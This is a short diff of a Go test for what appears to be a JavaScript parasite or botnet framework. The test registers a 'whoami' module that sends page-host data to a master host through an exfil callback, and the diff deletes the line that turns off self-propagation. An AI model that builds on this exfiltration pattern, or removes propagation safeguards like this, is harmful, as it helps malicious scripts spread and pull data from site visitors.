@@ -35,7 +35,6 @@ func TestScenariosAreSelfContained(t *testing.T) {
 			map[string]string{"Cache-Control": "max-age=600", "Content-Type": "application/javascript"})
 
 		cfg := parasite.NewConfig("fl", botID, MasterHost)
-		cfg.Propagate = false
 		cfg.Modules["whoami"] = func(env script.Env, _ string, exfil parasite.Exfil) error {
 			exfil("whoami", []byte(fmt.Sprintf("scenario-%d on %s", i, env.PageHost())))
 			return nil
